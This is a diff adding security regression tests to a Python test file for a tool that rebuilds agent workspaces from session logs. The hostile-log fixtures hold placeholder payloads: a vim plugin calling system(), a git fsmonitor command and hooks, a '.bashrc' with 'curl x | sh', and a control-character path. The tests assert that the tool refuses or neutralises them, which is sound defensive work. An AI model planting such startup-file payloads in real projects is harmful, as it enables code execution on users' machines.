@@ -136,7 +136,8 @@ async def test_a_command_s_changes_are_recorded_and_a_fork_past_an_unkept_file_i
     after_1 = rebuild_workspace(replay, 1, tmp_path / "one", original=tmp_path / "gone")
     got = files_of(after_1.root)
     assert got["made.txt"] == (b"made\n", got["made.txt"][1]) and "notes.txt" not in got
-    assert got["deep/er/f.txt"][1] & 0o100  # the mode too
+    assert got["deep/er/f.txt"][1] == 0o644  # the mode too, but a log never makes a file executable
+    assert after_1.not_executable == ["deep/er/f.txt"] and "without their executable bit" in after_1.notes[0]
     # After step 2, big.txt is only a fingerprint: taken from the original while it still matches...
     rebuilt = rebuild_workspace(replay, 2, tmp_path / "two")
     assert rebuilt.from_original == ["big.txt"]
@@ -333,3 +334,111 @@ def test_a_hostile_log_cannot_make_a_rebuild_write_outside_its_directory(tmp_pat
         with pytest.raises(ForkError, match=says):
             rebuild_workspace(Replay.load(log), 0, dest)
         assert not dest.exists() and list(outside.iterdir()) == [] and not (tmp_path / "escape.txt").exists()
+
+
+def _log_with_files(tmp_path: Path, files: list, workspace: str | None = None) -> Path:
+    """The fixture log with its record of the workspace replaced by `files` (and its header's
+    workspace by `workspace`): a hostile log."""
+    from smallops_tui.agent.log.events import WorkspaceRecorded
+
+    lines = (SESSIONS / "fix-add-clean.jsonl").read_text().splitlines()
+    header = json.loads(lines[0])
+    if workspace is not None:
+        header["workspace"] = workspace
+    record = WorkspaceRecorded(files=files).model_dump_json()
+    log = tmp_path / "hostile.jsonl"
+    log.write_text("\n".join([json.dumps(header), record, *[l for l in lines[1:] if "workspace_recorded" not in l
+                                                            and "files_changed" not in l]]) + "\n")
+    return log
+
+
+def test_a_fork_goes_to_a_fresh_directory_in_the_data_dir_never_beside_the_log_s_workspace(tmp_path: Path) -> None:
+    """Issue 20: a log naming a workspace inside vim's plugin folder made the fork there, and vim loaded it."""
+    from smallops_tui.agent.log.events import FileRecord
+    from smallops_tui.paths import data_dir
+
+    plugins = tmp_path / "home" / ".vim" / "pack" / "plugins" / "start"
+    plugins.mkdir(parents=True)
+    log = _log_with_files(tmp_path, [FileRecord(path="plugin/evil.vim", text="call system('touch pwned')\n")],
+                          workspace=str(plugins / "proj"))
+    fork = prepare_fork(Replay.load(log), 0)
+    assert list(plugins.iterdir()) == []  # nothing was written beside the log's workspace
+    assert fork.workspace.parent == data_dir() / "forks" and fork.workspace.name == "proj-fork-step0"
+    assert (fork.workspace / "plugin" / "evil.vim").is_file()
+    # A name from the log is only a name: no path, no control characters.
+    log = _log_with_files(tmp_path, [FileRecord(path="a.txt", text="x\n")], workspace="/x/../\x1b]0;t\x07../..")
+    assert prepare_fork(Replay.load(log), 0).workspace.parent == data_dir() / "forks"
+
+
+def test_a_rebuild_never_writes_git_start_up_files_or_executable_bits_from_a_log(tmp_path: Path) -> None:
+    from smallops_tui.agent.log.events import FileRecord
+
+    files = [FileRecord(path=".git/config", text="[core]\n\tfsmonitor = touch ../pwned\n"),
+             FileRecord(path=".git/hooks/pre-commit", text="#!/bin/sh\ntouch pwned\n", mode=0o755),
+             FileRecord(path="vendor/lib.git/hooks/post-checkout", text="#!/bin/sh\n", mode=0o755),
+             FileRecord(path="sub/HEAD", text="ref: refs/heads/main\n"),
+             FileRecord(path="sub/hooks/pre-commit", text="#!/bin/sh\n", mode=0o755),
+             FileRecord(path=".bashrc", text="curl x | sh\n"), FileRecord(path=".vscode/tasks.json", text="{}\n"),
+             FileRecord(path="run.sh", text="#!/bin/sh\necho hi\n", mode=0o755),
+             FileRecord(path="main.py", text="print(1)\n", mode=0o644)]
+    rebuilt = rebuild_workspace(Replay.load(_log_with_files(tmp_path, files)), 0, tmp_path / "fork")
+    written = files_of(rebuilt.root)
+    assert set(written) == {"run.sh", "main.py"}, written
+    assert written["run.sh"][1] == 0o644 and rebuilt.not_executable == ["run.sh"]
+    assert set(rebuilt.left_out) == {".git/config", ".git/hooks/pre-commit", "vendor/lib.git/hooks/post-checkout",
+                                     "sub/HEAD", "sub/hooks/pre-commit", ".bashrc", ".vscode/tasks.json"}
+    assert "not written from the log" in rebuilt.notes[0] and "executable bit" in rebuilt.notes[1]
+
+
+@pytest.mark.parametrize("planted", ["fifo", "device", "link to a device", "another size"])
+def test_a_fingerprint_only_file_is_taken_only_from_a_regular_file_of_its_size(planted: str, tmp_path: Path) -> None:
+    """Issue 20: a FIFO in the original workspace blocked rerun; /dev/zero ran to a MemoryError."""
+    import threading
+
+    from smallops_tui.agent.log.events import FileRecord
+
+    original = tmp_path / "original"
+    original.mkdir()
+    name, size = "data.bin", 600 * 1024
+    if planted == "fifo":
+        os.mkfifo(original / name)
+    elif planted == "device":
+        original, name = Path("/dev"), "zero"
+    elif planted == "link to a device":
+        (original / name).symlink_to("/dev/zero")
+    else:
+        (original / name).write_bytes(b"\0" * (size + 1))
+    digest = __import__("hashlib").sha256(b"\0" * size).hexdigest()
+    log = _log_with_files(tmp_path, [FileRecord(path=name, size=size, digest=digest)], workspace=str(original))
+    outcome: list[BaseException] = []
+
+    def rebuild() -> None:
+        try:
+            rebuild_workspace(Replay.load(log), 0, tmp_path / "fork")
+        except BaseException as exc:  # noqa: BLE001 - the test reports whatever it was
+            outcome.append(exc)
+
+    worker = threading.Thread(target=rebuild, daemon=True)
+    worker.start()
+    worker.join(120)  # a deadline, not a measurement: a rebuild that blocks on a FIFO never returns
+    assert not worker.is_alive(), "the rebuild blocked on what the original workspace holds"
+    assert len(outcome) == 1 and isinstance(outcome[0], ForkError), outcome
+    assert f"{name} (614,400 bytes) by fingerprint only" in str(outcome[0])
+    assert not (tmp_path / "fork").exists()
+
+
+def test_a_rebuild_is_bounded_a_log_cannot_make_it_write_a_huge_blob(tmp_path: Path) -> None:
+    """Issue 20: a 150 MB blob inline in a log became a 150 MB file. smallops never records more
+    than FILE_LIMIT bytes of one file's content, so a log that holds more is refused, unwritten."""
+    import base64
+
+    from smallops_tui.agent.files.recording import FILE_LIMIT
+    from smallops_tui.agent.log.events import FileRecord
+
+    blob = base64.b64encode(b"\0" * (FILE_LIMIT * 4)).decode()
+    for record in (FileRecord(path="blob.bin", size=FILE_LIMIT * 4, b64=blob),
+                   FileRecord(path="blob.txt", size=FILE_LIMIT * 4, text="x" * (FILE_LIMIT * 4))):
+        with pytest.raises(ForkError, match="more than smallops ever records of one file"):
+            rebuild_workspace(Replay.load(_log_with_files(tmp_path, [FileRecord(path="a.txt", text="a\n"), record])),
+                              0, tmp_path / "fork")
+        assert not (tmp_path / "fork").exists()
